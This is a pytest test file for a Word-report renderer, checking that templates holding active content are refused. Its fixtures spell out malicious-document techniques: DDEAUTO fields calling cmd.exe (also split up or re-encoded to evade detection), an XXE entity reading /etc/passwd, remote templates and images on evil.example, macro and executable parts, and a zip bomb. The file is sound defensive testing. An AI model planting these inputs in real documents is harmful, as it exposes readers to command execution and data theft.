"""Nothing that fetches or runs something gets from a template into a document; what is harmless does."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Final

import docx as word
import pytest

from deann06.errors import DeannError
from deann06.locale import t
from deann06.output.documents.word.docx import render
from tests.reports.sample import weekly

PLAIN: Final = Path("templates/weekly.docx")
RELATIONS: Final = "word/_rels/document.xml.rels"
BODY: Final = "word/document.xml"
TYPES: Final = "[Content_Types].xml"
OFFICE: Final = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MICROSOFT: Final = "http://schemas.microsoft.com/office/2006/relationships"
MAIN: Final = "wordprocessingml.document.main+xml"

Parts = dict[str, bytes]
Change = Callable[[Parts], object]


@pytest.fixture
def office(tmp_path: Path) -> Path:
    (tmp_path / "templates").mkdir()
    return tmp_path / "registry"


def parts() -> Parts:
    with zipfile.ZipFile(PLAIN) as file:
        return {name: file.read(name) for name in file.namelist()}


def put(office: Path, content: Mapping[str, bytes], name: str = "weekly.docx") -> None:
    """Make a template of parts."""
    with zipfile.ZipFile(office.parent / "templates" / name, "w") as file:
        for part, text in content.items():
            file.writestr(part, text)


def made(office: Path) -> bytes:
    report = weekly()
    return render(report, "weekly.docx", office, report.as_of)


def refused(office: Path, change: Change) -> DeannError:
    content = parts()
    change(content)
    put(office, content)
    with pytest.raises(DeannError) as error:
        made(office)
    return error.value


def add(part: str, before: str, text: str) -> Change:
    """Put a text before another one into a part."""

    def change(content: Parts) -> None:
        assert before.encode() in content[part]
        content[part] = content[part].replace(before.encode(), (text + before).encode(), 1)

    return change


def relation(kind: str, target: str, *, external: bool = True, space: str = OFFICE) -> Change:
    mode = ' TargetMode="External"' if external else ""
    return add(
        RELATIONS, "</Relationships>", f'<Relationship Id="rId99" Type="{space}/{kind}" Target="{target}"{mode}/>'
    )


def run(inside: str) -> str:
    return f"<w:r>{inside}</w:r>"


def char(kind: str) -> str:
    return run(f'<w:fldChar w:fldCharType="{kind}"/>')


def field(*words: str) -> str:
    pieces = "".join(word if word.startswith("<") else run(f"<w:instrText>{word}</w:instrText>") for word in words)
    return f"<w:p>{char('begin')}{pieces}{char('separate')}{run('<w:t>x</w:t>')}{char('end')}</w:p>"


def body(text: str) -> Change:
    return add(BODY, "<w:p>", text)


def simple(words: str) -> Change:
    return body(f'<w:p><w:fldSimple w:instr="{words}"/></w:p>')


def macros(content: Parts) -> None:
    content["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0"


def macro_type(content: Parts) -> None:
    kind = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    content[TYPES] = content[TYPES].replace(kind, b"application/vnd.ms-word.document.macroEnabled.main+xml")


def doctype(part: str) -> Change:
    return lambda content: content.update(
        {part: content[part].replace(b"?>", b'?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>', 1)}
    )


def wide(content: Parts) -> None:
    """A field in another encoding than that in which one would look for it."""
    text = content[BODY].decode().replace("<w:p>", f"{field('DDEAUTO x')}<w:p>", 1)
    content[BODY] = text.replace("UTF-8", "UTF-16", 1).encode("utf-16")


def picture(content: Parts) -> None:
    content["word/media/image1.png"] = b"\n <svg xmlns='http://www.w3.org/2000/svg'><image href='http://x'/></svg>"


VML: Final = 'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
XSI: Final = 'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
REFUSED: Final[dict[str, tuple[str, str, Change]]] = {
    "attached template": ("attached", RELATIONS, relation("attachedTemplate", "file:///c:/x.dotm", external=False)),
    "template from outside": ("attached", RELATIONS, relation("attachedTemplate", "https://evil.example/x.dotm")),
    "picture from outside": ("picture", RELATIONS, relation("image", "http://evil.example/x.png")),
    "picture on a share": ("picture", RELATIONS, relation("image", r"\\evil\share\x.png", external=False)),
    "picture on a disk": ("picture", RELATIONS, relation("image", "c:/x.png", external=False)),
    "hyperlink": ("link", RELATIONS, relation("hyperlink", "https://evil.example")),
    "object": ("object", RELATIONS, relation("oleObject", "embeddings/oleObject1.bin", external=False)),
    "workbook": ("object", RELATIONS, relation("package", "embeddings/x.xlsx", external=False)),
    "ActiveX": ("object", RELATIONS, relation("control", "activeX/activeX1.xml", external=False)),
    "macro": ("macro", RELATIONS, relation("vbaProject", "vbaProject.bin", external=False, space=MICROSOFT)),
    "chunk": ("chunk", RELATIONS, relation("aFChunk", "x.html", external=False)),
    "frame": ("frame", RELATIONS, relation("frame", "x.html")),
    "mail merge": ("data", RELATIONS, relation("mailMergeSource", "file:///c:/x.csv")),
    "add-in": ("addin", RELATIONS, relation("webextensiontaskpanes", "x.xml", external=False)),
    "something new": ("relation", RELATIONS, relation("somethingNew", "x.xml", external=False)),
    "styles from outside": ("outside", RELATIONS, relation("styles", "http://evil.example/styles.xml")),
    "macro part": ("macro", "word/vbaProject.bin", macros),
    "odd part": ("part", "word/x.exe", lambda content: content.update({"word/x.exe": b"MZ"})),
    "picture that is text": ("part", "word/media/image1.png", picture),
    "DOCTYPE": ("doctype", "docProps/app.xml", doctype("docProps/app.xml")),
    "DOCTYPE of the body": ("doctype", BODY, doctype(BODY)),
    "altChunk": ("chunk", BODY, body('<w:altChunk r:id="rId1"/>')),
    "subDoc": ("chunk", BODY, body('<w:subDoc r:id="rId1"/>')),
    "OLE element": ("object", BODY, body("<w:p><w:r><w:object/></w:r></w:p>")),
    "control element": ("object", BODY, body("<w:p><w:r><w:pict><w:control/></w:pict></w:r></w:p>")),
    "frameset": ("frame", "word/webSettings.xml", add("word/webSettings.xml", "</w:webSettings>", "<w:frameset/>")),
    "merge settings": ("data", "word/settings.xml", add("word/settings.xml", "</w:settings>", "<w:mailMerge/>")),
    "macro of a form": ("macro", BODY, body('<w:p><w:r><w:ffData><w:entryMacro w:val="x"/></w:ffData></w:r></w:p>')),
    "VML picture": ("outside", BODY, body(f'<w:p><w:pict><v:imagedata {VML} src="http://evil.example/x"/></w:pict></w:p>')),
    "VML link": ("outside", BODY, body(f'<w:p><w:pict><v:rect {VML} href="\\\\evil\\x"/></w:pict></w:p>')),
    "schema": ("outside", "customXml/item1.xml", lambda content: content.update(
        {"customXml/item1.xml": f'<a {XSI} xsi:schemaLocation="urn:a http://evil.example/a.xsd"/>'.encode()})),
    "DDEAUTO": ("field", BODY, body(field(r"DDEAUTO c:\\windows\\cmd.exe"))),
    "DDE in pieces": ("field", BODY, body(field(" D", "D", "E x"))),
    "DDE within a field": ("field", BODY, body(field("D", char("begin"), 'QUOTE "DE x"', char("end"), "ATE"))),
    "nothing but a field": ("field", BODY, body(field(char("begin"), "QUOTE 68 68 69", char("end")))),
    "a simple field": ("field", BODY, simple("INCLUDETEXT &quot;http://x&quot;")),
    "a simple field, spelled": ("field", BODY, simple("&#73;NCLUDEPICTURE x")),
    **{name: ("field", BODY, body(field(f"{name.lower()} x"))) for name in (
        "LINK", "IMPORT", "EMBED", "DATABASE", "MACROBUTTON", "AUTOTEXT", "RD", "ASK", "FILLIN", "PRINT", "HTMLACTIVEX",
        "CONTROL", "ADDIN", "MERGEFIELD")},
    "HYPERLINK": ("field", BODY, body(field('HYPERLINK "https://evil.example"'))),
    "HYPERLINK and a bookmark": ("field", BODY, body(field(r'HYPERLINK "https://evil.example" \l "a"'))),
    "in another encoding": ("field", BODY, wide),
}  # fmt: skip


@pytest.mark.parametrize(("kind", "part", "change"), REFUSED.values(), ids=REFUSED)
def test_what_fetches_or_runs_is_refused_by_its_name_and_part(
    office: Path, kind: str, part: str, change: Change
) -> None:
    error = refused(office, change)
    assert (error.key, error.exit_code, error.facts["part"]) == ("template.active", 3, part)
    assert str(error.facts["thing"]).startswith(t(f"template.active.{kind}", what="…").partition("…")[0])


def test_macros_of_another_type_are_refused(office: Path) -> None:
    assert refused(office, macro_type).key == "template.broken"


@pytest.mark.parametrize(
    "words",
    [
        "PAGE", " numpages ", r"REF a \h", r'HYPERLINK \l "_Toc1" \h', "SEQ Bảng", r"TOC \o &quot;1-3&quot;", "= 1 + 2",
        'DATE \\@ "dd/MM/yyyy"', "STYLEREF MucLon", 'IF 1 = 1 "a" "b"', "FORMTEXT",
    ],
)  # fmt: skip
def test_fields_that_stay_within_the_document_pass(office: Path, words: str) -> None:
    content = parts()
    body(field(words))(content)
    put(office, content)
    assert words.split()[0].encode() in zipfile.ZipFile(io.BytesIO(made(office))).read(BODY)


@pytest.mark.parametrize("tag", ["{{ report.notice }}", "{% if report %}PAGE{% endif %}", "{{ 'DDE' ~ 'AUTO' }} x"])
def test_a_field_that_comes_of_tags_is_not_trusted(office: Path, tag: str) -> None:
    assert refused(office, body(field(tag))).facts["part"] == BODY


def test_what_a_template_makes_is_looked_at_too(office: Path) -> None:
    """A template may change the text that it is made of."""
    orders = ("{%p macro m() %}", "{%p endmacro %}", "{{p m() | replace('PAGE', 'DDEAUTO') }}")
    first, last, call = (f"<w:p>{run(f'<w:t>{order}</w:t>')}</w:p>" for order in orders)
    error = refused(office, body(first + field("PAGE c:") + last + call))
    assert error.facts["thing"] == t("template.active.field", what="DDEAUTO c:")


@pytest.mark.parametrize("name", ["weekly.dotx", "Weekly.DOTX", "weekly.docx", "WEEKLY.docx"])
def test_a_template_of_word_gives_a_document(office: Path, name: str) -> None:
    content = parts()
    content[TYPES] = content[TYPES].replace(MAIN.encode(), MAIN.replace("document", "template").encode())
    put(office, content, name)
    package = made(office)
    assert MAIN in zipfile.ZipFile(io.BytesIO(package)).read(TYPES).decode()
    assert package == render(weekly(), "weekly.docx", Path("registry"), weekly().as_of)
    assert word.Document(io.BytesIO(package)).paragraphs


def test_two_templates_for_one_report_are_not_chosen_between(office: Path) -> None:
    for name in ("weekly.docx", "weekly.dotx"):
        put(office, parts(), name)
    with pytest.raises(DeannError, match=r"template\.several") as error:
        made(office)
    assert error.value.facts["names"] == "weekly.docx, weekly.dotx"


@pytest.mark.parametrize("name", ["weekly.doc", "weekly.docm", "weekly.dotm", "Weekly.odt", "weekly.rtf"])
def test_a_template_in_another_form_is_not_passed_over(office: Path, name: str) -> None:
    put(office, parts(), name)
    with pytest.raises(DeannError, match=r"template\.other_form") as error:
        made(office)
    assert error.value.facts == {"name": name, "forms": "weekly.docx, weekly.dotx"}


def test_a_template_that_libreoffice_has_saved_keeps_its_properties(office: Path) -> None:
    content = parts()
    address = b"/package/2006/relationships/metadata/core-properties"
    assert address in content["_rels/.rels"]
    draft = address.replace(b"package", b"officedocument")
    put(office, content | {"_rels/.rels": content["_rels/.rels"].replace(address, draft)})
    package = zipfile.ZipFile(io.BytesIO(made(office)))
    assert len(set(package.namelist())) == len(package.namelist())
    assert "Báo cáo tuần".encode() in package.read("docProps/core.xml")


def bomb(content: Parts) -> None:
    content["word/media/image1.png"] = b"\0" * (65 * 1024 * 1024)


def test_a_package_that_unpacks_to_too_much_is_refused_unread(office: Path) -> None:
    content = parts()
    bomb(content)
    with zipfile.ZipFile(office.parent / "templates" / "weekly.docx", "w", zipfile.ZIP_DEFLATED) as file:
        for part, text in content.items():
            file.writestr(part, text)
    with pytest.raises(DeannError, match=r"template\.too_large"):
        made(office)


@pytest.mark.parametrize("part", [BODY, RELATIONS, TYPES, "word/styles.xml", "docProps/core.xml"])
@pytest.mark.parametrize(
    "content", [b"", b"<a", b"\xff\xfe", b"<w:document/>", b"<?xml version='1.0' encoding='no'?><a/>"]
)
def test_a_broken_part_is_one_known_error(office: Path, part: str, content: bytes) -> None:
    error = refused(office, lambda found: found.update({part: content}))
    assert error.key == "template.broken"
    assert error.exit_code == 3
